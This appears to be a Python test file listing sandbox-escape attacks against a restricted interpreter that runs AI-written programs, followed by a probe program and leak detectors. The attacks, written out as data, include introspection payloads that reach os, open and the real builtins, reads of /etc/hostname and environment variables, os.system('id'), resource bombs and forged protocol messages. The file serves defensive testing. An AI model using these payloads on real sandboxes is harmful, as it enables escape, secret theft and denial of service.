            "__import__ spelled with fullwidth low lines (NFKC folds them)",
            "\uff3f\uff3fimport\uff3f\uff3f('os')",
        ),
        Attack("import-in-library", a, "an import in the library", "1", library="import os\n"),
        Attack(
            "import-star",
            a,
            "a star import into the program's namespace",
            "from os import *\nenviron",
        ),
        Attack(
            "module-member-module",
            a,
            "a module that an allowed module imported",
            "json.codecs.open('/etc/hostname').read()",
        ),
        Attack(
            "module-sys-modules",
            a,
            "the module table through a wrapper class's globals",
            "collections.UserString('{0.__globals__[_sys].modules[importlib]}')"
            ".format(collections.namedtuple)",
        ),
        Attack(
            "dunder-import-format",
            a,
            "the real __import__ through a format template",
            "collections.UserString('{0.__globals__[__builtins__][__import__]}')"
            ".format(random.seed)",
        ),
        Attack(
            "codec-import",
            a,
            "make the codec registry import a module from disk",
            "[len('x'.encode('cp1252')), len('x'.encode('mac_roman'))]",
        ),
        Attack(
            "stub-named-builtin",
            a,
            "declare a host function named like a forbidden builtin",
            "def exec(code): ...\nexec('import os')",
        ),
        Attack(
            "global-named-module",
            a,
            "a predefined variable named os",
            "os.system('id')",
            globals={"os": {"system": "x"}},
        ),
        Attack(
            "statistics-imports",
            a,
            "a module the statistics module imported",
            "statistics.math.sys.modules['os'].environ",
        ),
    ]


def _builtins() -> list[Attack]:
    a: Klass = "builtins"
    return [
        Attack(
            "builtins-open",
            a,
            "the real open() from a stdlib function's globals",
            "collections.UserString('{0.__globals__[__builtins__][open]}').format(random.seed)",
        ),
        Attack(
            "builtins-module-self",
            a,
            "the builtins module as a builtin function's __self__",
            "collections.UserString('{0.__self__}').format(len)",
        ),
        Attack(
            "builtins-eval-via-dict",
            a,
            "eval from the globals of the dialect Dict's methods",
            "collections.UserString('{0.__getattr__.__globals__[__builtins__][eval]}').format({})",
        ),
        Attack(
            "builtins-object-mro",
            a,
            "object at the end of an MRO",
            "collections.UserString('{0.__mro__[2]}').format(dict)",
        ),
        Attack(
            "builtins-runtime-run",
            a,
            "the runtime's own state from the globals of print",
            "collections.UserString('{0.__globals__[RUN]}').format(print)",
        ),
        Attack(
            "builtins-reassign",
            a,
            "replace the builtins of the program's namespace",
            "__builtins__ = {'open': 1}\nopen",
        ),
        Attack(
            "builtins-self-of-method",
            a,
            "a builtin method's __self__ by attribute",
            "abs.__self__.open('/etc/hostname').read()",
        ),
        Attack(
            "builtins-via-type", a, "type() from a class's class", "dict.__class__('x', (), {})"
        ),
        Attack(
            "builtins-getattr-keyword",
            a,
            "getattr passed where a callable is expected",
            "functools.reduce(getattr, ['__globals__', '_os'], random.seed)",
        ),
        Attack(
            "builtins-exception-init",
            a,
            "the builtins through an exception class's __init__",
            "ValueError.__init__.__self__",
        ),
        Attack(
            "builtins-print-file",
            a,
            "print's file= keyword to write outside the run",
            "print('x', file='/tmp/x')\n1",
        ),
        Attack(
            "builtins-vars-fstring",
            a,
            "vars() inside an f-string",
            "f'{vars()}'",
        ),
    ]


def _subclass_walks() -> list[Attack]:
    a: Klass = "subclass-walks"
    return [
        Attack(
            "walk-format-subclasses",
            a,
            "object.__subclasses__ through a template",
            "collections.UserString('{0.__class__.__mro__[1].__subclasses__}').format(1)",
        ),
        Attack(
            "walk-int-base",
            a,
            "the classic walk from an int",
            "[c for c in (1).__class__.__base__.__subclasses__() if 'wrap' in c.__name__]",
        ),
        Attack(
            "walk-exception-subclasses",
            a,
            "exception subclasses, some of which hold modules",
            "Exception.__subclasses__()",
        ),
        Attack(
            "walk-dict-bases",
            a,
            "from the dialect's Dict up to dict and object",
            "dict.__bases__[0].__base__.__subclasses__()",
        ),
        Attack(
            "walk-match-mro",
            a,
            "mro through a match keyword pattern",
            "match dict:\n    case dict(mro=m):\n        pass\nm()",
        ),
        Attack(
            "walk-user-dict",
            a,
            "subclasses of an ABC wrapper class",
            "collections.UserDict.__subclasses__()",
        ),
        Attack("walk-random-mro", a, "a stdlib class's mro()", "random.Random.mro()"),
        Attack(
            "walk-format-direct",
            a,
            "the walk in a directly called format",
            "'{0.__class__.__bases__[0].__subclasses__}'.format(())",
        ),
        Attack(
            "walk-decimal-bases",
            a,
            "a C type's bases",
            "decimal.Decimal.__bases__[0].__subclasses__()",
        ),
    ]


def _frames() -> list[Attack]:
    a: Klass = "frames"
    return [
        Attack(
            "frame-running-generator",
            a,
            "the frame that resumed a generator: the runtime's own",
            "holder = []\n"
            "g = (collections.UserString('{0[0].gi_frame.f_back.f_globals[os]}').format(holder)"
            " for i in [1])\n"
            "holder.append(g)\nlist(g)",
        ),
        Attack(
            "frame-traceback-back",
            a,
            "the frame below the program's: the runtime's entry point",
            "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n"
            "    r = collections.UserString('{0.__traceback__.tb_frame.f_back.f_globals[os]}')"
            ".format(e)\nr",
        ),
        Attack(
            "frame-locals-start",
            a,
            "the runtime's locals: the start message",
            "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n"
            "    r = collections.UserString('{0.__traceback__.tb_frame.f_back.f_locals}')"
            ".format(e)\nr",
        ),
        Attack(
            "frame-real-builtins",
            a,
            "the real builtins of the runtime's frame",
            "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n"
            "    r = collections.UserString("
            "'{0.__traceback__.tb_frame.f_back.f_builtins[open]}').format(e)\nr",
        ),
        Attack(
            "frame-host-error-traceback",
            a,
            "the runtime frames a host error was raised through",
            "r = generate_text('x', binding='no-such-binding')\n"
            "try:\n    r.upper()\nexcept HostError as e:\n"
            "    r = collections.UserString('{0.__traceback__.tb_next.tb_frame.f_globals[RUN]}')"
            ".format(e)\nr",
        ),
        Attack(
            "frame-function-code",
            a,
            "a function's code object",
            "def g():\n    return 1\ncollections.UserString('{0.__code__}').format(g)",
        ),
        Attack(
            "frame-closure-cell",
            a,
            "a closure's cells",
            "def outer():\n    secret = 1\n    def inner():\n        return secret\n"
            "    return inner\n"
            "collections.UserString('{0.__closure__[0]}').format(outer())",
        ),
        Attack(
            "frame-gi-frame-static",
            a,
            "a generator frame by attribute",
            "g = (x for x in [1])\nnext(g)\ng.gi_frame.f_back",
        ),
        Attack(
            "frame-with-traceback-pattern",
            a,
            "a traceback through a match pattern on the exception",
            "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    match e:\n"
            "        case ZeroDivisionError(__traceback__=t):\n            r = t\nr",
        ),
        Attack(
            "frame-sys-getframe",
            a,
            "sys._getframe through a template",
            "collections.UserString('{0.__globals__[_sys]._getframe.__self__}')"
            ".format(collections.namedtuple)",
        ),
    ]


def _resources() -> list[Attack]:
    a: Klass = "resources"
    return [
        Attack("cpu-c-loop", a, "an endless loop inside C", "sum(itertools.count())"),
        Attack(
            "cpu-deque-drain",
            a,
            "an endless C loop",
            "collections.deque(itertools.count(), maxlen=1)",
        ),
        Attack("cpu-factorial", a, "a huge factorial", "math.factorial(10 ** 8)"),
        Attack("cpu-bigint-power", a, "a huge power", "pow(7, 10 ** 9) % 10"),
        Attack("cpu-regex", a, "catastrophic regex backtracking", "re.match('(x+x+)+y', 'x' * 40)"),
        Attack(
            "cpu-fraction-power",
            a,
            "exact rational arithmetic that grows without bound",
            "fractions.Fraction(10 ** 50, 3) ** 100000",
        ),
        Attack(
            "memory-repeat-list",
            a,
            "a list of 10**10 items",
            "list(itertools.repeat('x', 10 ** 10))",
        ),
        Attack("memory-string", a, "a 1 TiB string", "'x' * (1 << 40)"),
        Attack("memory-bytearray", a, "an 8 GiB bytearray", "bytearray(8 << 30)"),
        Attack(
            "memory-doubling",
            a,
            "a string doubled until memory runs out",
            "s = 'a'\nwhile True:\n    s = s + s",
        ),
        Attack(
            "memory-decimal-precision",
            a,
            "the largest decimal precision",
            "decimal.getcontext().prec = decimal.MAX_PREC\ndecimal.Decimal(1) / decimal.Decimal(7)",
        ),
        Attack(
            "memory-product",
            a,
            "a huge cartesian product",
            "list(itertools.product(range(100), repeat=6))",
        ),
        Attack(
            "memory-tiny-limit",
            a,
            "ask for a one-byte address space",
            "1",
            limits=Limits(memory_bytes=1),
        ),
        Attack(
            "recursion-lambda",
            a,
            "unbounded recursion through a lambda",
            "f = lambda n: f(n + 1)\nf(0)",
        ),
        Attack(
            "recursion-repr",
            a,
            "a repr nested a million deep (C recursion)",
            "x = []\nfor i in range(1000000):\n    x = [x]\nlen(repr(x))",
        ),
        Attack(
            "recursion-map-chain",
            a,
            "a million nested map iterators, advanced once (C recursion)",
            "g = iter([1])\nfor i in range(1000000):\n    g = map(abs, g)\nnext(g)",
        ),
        Attack("int-string-limit", a, "a 10**6-digit int from a string", "int('9' * 1000000)"),
        Attack(
            "call-budget-server",
            a,
            "more server calls than the budget",
            "[generate_text(str(i)) for i in range(10000)]",
        ),
        Attack(
            "call-budget-ordered-wait",
            a,
            "more client calls than the budget, each waited for",
            "[fetch(i).key for i in range(1000)]",
            client_functions=STUBS,
        ),
        Attack(
            "textwrap-pathological",
            a,
            "wrap a huge text at width 1",
            "len(textwrap.wrap('a ' * 10 ** 7, 1))",
        ),
    ]


def _smuggling() -> list[Attack]:
    a: Klass = "host-smuggling"
    done = '{"t":"done","value":"PWNED"}'
    frame = "\x00\x00\x00\x1c" + done
    return [
        Attack(
            "argument-done-message",
            a,
            "an argument that is the child's 'done' message",
            f"fetch(key={done!r}).key",
            client_functions=STUBS,
            expect=done,
        ),
        Attack(
            "argument-framed-done",
            a,
            "an argument that is a whole framed 'done' message",
            f"fetch(key={frame!r}).key",
            client_functions=STUBS,
            expect=frame,
        ),
        Attack(
            "argument-source-injection",
            a,
            "an argument that closes the call in its displayed source and starts another",
            "fetch(key=\"'), generate_text(prompt_text='x\").key",
            client_functions=STUBS,
            expect="'), generate_text(prompt_text='x",
        ),
        Attack(
            "keywords-protocol-fields",
            a,
            "keyword arguments named like the protocol's fields",
            "echo(t='done', id=1, name='fetch', value='PWNED', error='x')",
            client_functions=STUBS,
            expect={"kw": {"t": "done", "id": 1, "name": "fetch", "value": "PWNED", "error": "x"}},
        ),
        Attack(
            "keywords-odd-names",
            a,
            "keyword names that are not identifiers",
            "echo(**{'a b': 1, '': 2, '\\n': 3})",
            client_functions=STUBS,
            expect={"kw": {"a b": 1, "": 2, "\n": 3}},
        ),
        Attack(
            "client-stub-shadows-server",
            a,
            "a client function named like a server function",
            "generate_text(prompt_text='x')",
            client_functions="def generate_text(prompt_text): ...\n",
        ),
        Attack(
            "program-stub-extra-parameter",
            a,
            "a program stub of a server function with a parameter the server lacks",
            "def generate_text(prompt_text, api_key='GENMESH_API_KEY'): ...\n"
            "r = generate_text('x')\n"
            "try:\n    r.upper()\nexcept HostError as e:\n    r = str(e)\nr",
        ),
        Attack(
            "server-int32-overflow",
            a,
            "an argument beyond the proto field's range",
            "r = generate_text('x', max_tokens=2 ** 40)\n"
            "try:\n    r.upper()\nexcept HostError as e:\n    r = str(e)\nr",
        ),
        Attack(
            "server-wrong-type",
            a,
            "an argument of the wrong type",
            "r = generate_image('x', steps='many')\n"
            "try:\n    len(r)\nexcept HostError as e:\n    r = str(e)\nr",
        ),
        Attack(
            "argument-huge-server",
            a,
            "a 7 MiB argument to a server function",
            "len(generate_text('x' * (7 << 20)))",
            limits=Limits(wall_ms=6000, memory_bytes=512 << 20),
        ),
        Attack(
            "client-wrong-ids",
            a,
            "a client answering under other call ids",
            "fetch('a').key",
            client_functions=STUBS,
            client="wrong-id",
        ),
        Attack(
            "client-duplicate-answers",
            a,
            "a client answering every call twice",
            "[fetch('a').key, fetch('b').key]",
            client_functions=STUBS,
            client="duplicate",
            expect=["a", "b"],
        ),
        Attack(
            "client-early-answers",
            a,
            "a client answering calls before they are made",
            "[fetch('a').key, fetch('b').key]",
            client_functions=STUBS,
            client="early",
            expect=["a", "b"],
        ),
        Attack(
            "client-huge-answer",
            a,
            "a client answering with a 7 MiB value",
            "len(fetch('a'))",
            client_functions=STUBS,
            client="huge",
            limits=Limits(wall_ms=6000, memory_bytes=512 << 20),
        ),
        Attack(
            "client-deep-answer",
            a,
            "a client answering with a value nested beyond protobuf's parse limit",
            "len(str(fetch('a')))",
            client_functions=STUBS,
            client="deep",
        ),
        Attack(
            "argument-runtime-objects",
            a,
            "runtime objects as arguments, shown to the host by their repr",
            "fetch(key=[print, json.loads, fetch, dict]).key",
            client_functions=STUBS,
        ),
    ]


def _replays() -> list[Attack]:
    a: Klass = "replay-poisoning"
    leak = f"collections.UserString({env(KEY)!r}).format(random.seed)"
    return [
        Attack(
            "replay-env-leak",
            a,
            "a logged program that reads the replaying user's environment",
            leak,
            replay=call_log(leak),
            peers=False,
        ),
        Attack(
            "replay-stub-default",
            a,
            "logged server functions whose stub default breaks the stub parser",
            "1",
            replay=call_log("1", server_functions="def f(x={[]: 1}): ...\n"),
            peers=False,
        ),
        Attack(
            "replay-result-bigint",
            a,
            "a logged program whose result no double can carry",
            "10 ** 400",
            replay=call_log("10 ** 400"),
            peers=False,
        ),
        Attack(
            "replay-huge-answer",
            a,
            "a logged answer larger than a frame",
            "len(fetch('a'))",
            replay=call_log(
                "len(fetch('a'))",
                [record(1, "fetch", "x" * (17 << 20), {"key": "a"})],
                program={"clientFunctions": STUBS},
            ),
            peers=False,
        ),
        Attack(
            "replay-nonfinite-answer",
            a,
            "a logged answer that is not a finite number",
            "fetch('a') + 1",
            replay=call_log(
                "fetch('a') + 1",
                [record(1, "fetch", "NaN", {"key": "a"})],
                program={"clientFunctions": STUBS},
            ).replace('"value": "NaN"', '"value": NaN'),
            peers=False,
        ),
        Attack(
            "replay-lies-about-result",
            a,
            "a log whose recorded result is not what its program returns",
            "'real'",
            replay=call_log("'real'", result="forged"),
            evidence=("replay matches the log",),
            peers=False,
        ),
        Attack(
            "replay-lies-about-calls",
            a,
            "a log whose recorded call is not the one its program makes",
            "fetch('a').key",
            replay=call_log(
                "fetch('a').key",
                [record(1, "transfer", {"key": "a"}, {"amount": 1000})],
                program={"clientFunctions": STUBS},
                result="a",
            ),
            evidence=("replay matches the log",),
            peers=False,
        ),
        Attack(
            "replay-not-json",
            a,
            "a log file that is not JSON",
            "1",
            replay="{'call_log': nope",
            peers=False,
        ),
        Attack(
            "replay-wrong-shape",
            a,
            "a log whose fields have the wrong types",
            "1",
            replay=json.dumps({"call_log": {"program": "1", "calls": "none"}}),
            peers=False,
        ),
        Attack(
            "replay-cpu-loop",
            a,
            "a logged program that never ends",
            "while True:\n    pass",
            replay=call_log("while True:\n    pass"),
            peers=False,
        ),
        Attack(
            "replay-dunder-globals",
            a,
            "logged globals that replace the program's builtins",
            "open",
            replay=call_log(
                "open", program={"globals": {"__builtins__": {"open": "x"}, "open": "x"}}
            ),
            peers=False,
        ),
        Attack(
            "replay-base64-code",
            a,
            "a log smuggling its program base64-encoded in an unknown field",
            "1",
            replay=json.dumps(
                {
                    "call_log": {
                        "program": {"code": "1"},
                        "marshal": base64.b64encode(b"x").decode(),
                    },
                }
            ),
            peers=False,
        ),
    ]


def _cross_run() -> list[Attack]:
    a: Klass = "cross-run"

    def poison(name: str, goal: str, code: str, after: str) -> Attack:
        return Attack(name, a, goal, code, after=after)

    return [
        poison("global-left-over", "a variable left for the next run", "left = 'mine'\n1", "left"),
        poison(
            "module-view-function",
            "replace a module view's function",
            "json.dumps = lambda *a, **k: 'poisoned'\n1",
            "json.dumps([1])",
        ),
        poison(
            "module-view-constant", "replace a module view's constant", "math.pi = 3\n1", "math.pi"
        ),
        poison(
            "dict-class-method",
            "replace a method of the dialect's Dict class",
            "dict.keys = lambda self: ['poisoned']\n1",
            "sorted({'a': 1}.keys())",
        ),
        poison(
            "wrapper-class-method",
            "replace a method of a stdlib class",
            "collections.UserDict.get = lambda self, k, d=None: 'poisoned'\n1",
            "collections.UserDict({'a': 1}).get('a')",
        ),
        poison("random-seed", "reseed random", "random.seed('poisoned')\n1", "random.random()"),
        poison(
            "random-state",
            "set random's state",
            "random.setstate((3, tuple([1] * 624 + [0]), None))\n1",
            "random.randint(0, 10 ** 6)",
        ),
        poison(
            "decimal-precision",
            "lower the decimal context's precision",
            "decimal.getcontext().prec = 2\n1",
            "str(decimal.Decimal(1) / decimal.Decimal(7))",
        ),
        poison(
            "decimal-context",
            "install another decimal context",
            "decimal.setcontext(decimal.Context(prec=3, rounding=decimal.ROUND_UP))\n1",
            "str(decimal.Decimal(2) / decimal.Decimal(3))",
        ),
        poison(
            "template-delimiter",
            "change string.Template's class-level delimiter",
            "string.Template.delimiter = '#'\n1",
            "string.Template('$a').safe_substitute(a=1)",
        ),
        poison(
            "string-constant",
            "replace a string constant",
            "string.ascii_lowercase = 'poisoned'\n1",
            "string.ascii_lowercase",
        ),
        poison(
            "function-attribute",
            "set an attribute on a shared stdlib function",
            "collections.namedtuple.poisoned = True\n1",
            "collections.namedtuple('P', 'a')(1).a",
        ),
        poison(
            "exception-class-attribute",
            "set an attribute on a shared exception class",
            "json.JSONDecodeError.hint = 'poisoned'\n1",
            "try:\n    json.loads('{')\nexcept ValueError as e:\n    r = e.msg\nr",
        ),
        poison(
            "textwrap-class-attribute",
            "change a class attribute used by textwrap's functions",
            "textwrap.TextWrapper.break_long_words = False\n1",
            "textwrap.wrap('abcdefgh', 3)",
        ),
        poison(
            "print-attribute",
            "set an attribute on the runtime's print",
            "print.poisoned = 'yes'\n1",
            "print('x')\n1",
        ),
        poison(
            "re-cache",
            "fill the regex cache",
            "[re.compile('a' * i) for i in range(1, 600)]\n1",
            "re.findall('a+', 'caaab')",
        ),
    ]


def corpus() -> list[Attack]:
    """Every attack, grouped by class."""
    return [
        *_secrets(),
        *_doors(),
        *_never_ending(),
        *_harm_next(),
        *_floods(),
        *_imports(),
        *_builtins(),
        *_subclass_walks(),
        *_frames(),
        *_resources(),
        *_smuggling(),
        *_replays(),
        *_cross_run(),
    ]


CORPUS = corpus()

# An ordinary program run after every attack: it touches what an attack could have left broken
# (module views, classes, random's seed, the decimal context, attribute dicts, server calls).
PROBE = """
text = generate_text('probe')
[
    math.pi,
    json.dumps({'a': [1, 2.5, None]}),
    random.random(),
    str(decimal.Decimal(1) / decimal.Decimal(7)),
    sorted(collections.Counter('abracadabra').items()),
    string.Template('$x').substitute(x='y'),
    re.findall('a+', 'caaab'),
    textwrap.fill('a b c', 3),
    statistics.mean([1, 2, 3]),
    {'k': 1}['k'],
    text,
]
"""


def sighted(attack: Attack, texts: list[str]) -> list[str]:
    """What `texts` show that means the attack got out: a foreign module, a forbidden sight or
    one of the attack's own pieces of evidence."""
    found = [match.group() for text in texts for match in FOREIGN_MODULE.finditer(text)]
    found += [
        sight for sight in FORBIDDEN_SIGHTS + attack.evidence if any(sight in t for t in texts)
    ]
    return found


def leaks(secret: str) -> tuple[str, ...]:
    """The forms of a secret to look for: as is, reversed, and hex or base64 encoded."""
    raw = secret.encode()
    return (secret, secret[::-1], raw.hex(), base64.b64encode(raw).decode().rstrip("="))
